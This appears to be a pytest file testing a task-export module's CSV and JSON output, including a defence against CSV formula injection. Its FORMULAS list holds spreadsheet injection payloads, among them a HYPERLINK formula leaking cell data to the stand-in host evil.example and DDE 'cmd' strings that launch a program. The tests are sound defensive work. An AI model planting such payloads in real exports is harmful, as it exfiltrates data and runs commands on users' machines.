"""Exports: CSV with a header row and one row per task, JSON as ``{"scan", "tasks"}``."""

from __future__ import annotations

import csv
import io
import json

from taskstream_core import Scan, Task, export_csv, export_json
from taskstream_core.models import ScanStatus, TaskStatus
from tests.support.shapes import TASK_FIELDS, TASK_KEYS

from ..conformance.factories import T0, at

COLUMNS = list(TASK_FIELDS)
SCAN = Scan("s1", "Export me", "", ScanStatus.OPEN, "a1", T0)


def tasks() -> list[Task]:
    tricky = 'a "quoted", comma\nnew line; ünïcödé'
    first = Task("t1", "s1", "w1", "alice", tricky, TaskStatus.PENDING, T0, 1, 1)
    second = Task("t2", "s1", "w2", "bob", "plain", TaskStatus.PENDING, at(1), 2, 2).decided(
        TaskStatus.REFUSED, reason="no, thanks", by="a1", at=at(5), seq=3
    )
    return [first, second]


def test_csv_has_the_task_fields_as_header_then_one_row_per_task() -> None:
    """The header is the Task object's fields; each row reads back as the task's JSON."""
    text = export_csv(tasks())
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == COLUMNS
    assert set(COLUMNS) == TASK_KEYS
    assert len(rows) == 1 + len(tasks())
    for row, task in zip(rows[1:], tasks(), strict=True):
        expected = {k: "" if val is None else str(val) for k, val in task.to_dict().items()}
        assert dict(zip(COLUMNS, row, strict=True)) == expected


def test_csv_null_fields_are_empty_cells_and_lines_end_with_crlf() -> None:
    """A pending task's reason, decided_by and decided_at are empty; rows end in CRLF."""
    text = export_csv(tasks()[1:])
    assert text.startswith(",".join(COLUMNS) + "\r\n")
    assert text.endswith("\r\n")
    pending = next(csv.DictReader(io.StringIO(export_csv(tasks()[:1]), newline="")))
    assert (pending["reason"], pending["decided_by"], pending["decided_at"]) == ("", "", "")
    assert pending["created_at"] == "2026-11-28T01:02:03.456Z"


def test_csv_of_no_tasks_is_the_header_alone() -> None:
    """An empty scan exports one header line."""
    assert export_csv([]) == ",".join(COLUMNS) + "\r\n"


def test_json_export_is_the_scan_and_its_tasks() -> None:
    """JSON is exactly ``{"scan", "tasks"}`` with contract objects, non-ASCII kept as is."""
    text = export_json(SCAN, tasks())
    body = json.loads(text)
    assert body == {"scan": SCAN.to_dict(), "tasks": [t.to_dict() for t in tasks()]}
    assert "ünïcödé" in text
    assert json.loads(export_json(SCAN, [])) == {"scan": SCAN.to_dict(), "tasks": []}


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted_with_an_apostrophe() -> None:
    """Issue #16 finding 9 (OWASP "CSV Injection"): a content, reason or username starting
    with = + - @ TAB or CR is exported with a leading ' so a spreadsheet shows it as text."""
    for formula in FORMULAS:
        task = Task("t1", "s1", "w1", "-dash-", formula, TaskStatus.PENDING, T0, 1, 1).decided(
            TaskStatus.REFUSED, reason=formula, by="a1", at=at(5), seq=2
        )
        row = next(csv.DictReader(io.StringIO(export_csv([task]), newline="")))
        assert row["content"] == "'" + formula
        assert row["reason"] == "'" + formula
        assert row["worker_username"] == "'-dash-"
        assert (row["id"], row["status"], row["created_at"]) == (
            "t1",
            "refused",
            "2026-11-28T01:02:03.456Z",
        )


def test_csv_leaves_harmless_text_and_json_leaves_everything_as_it_is() -> None:
    """Text that merely contains those characters is exported unchanged, and the JSON export
    carries every value exactly as stored."""
    harmless = "a=1, b+2, c-3 @home\t'quoted'"
    task = Task("t1", "s1", "w1", "alice", harmless, TaskStatus.PENDING, T0, 1, 1)
    row = next(csv.DictReader(io.StringIO(export_csv([task]), newline="")))
    assert row["content"] == harmless
    risky = Task("t2", "s1", "w1", "-dash-", FORMULAS[0], TaskStatus.PENDING, T0, 2, 2)
    assert json.loads(export_json(SCAN, [risky]))["tasks"][0] == risky.to_dict()
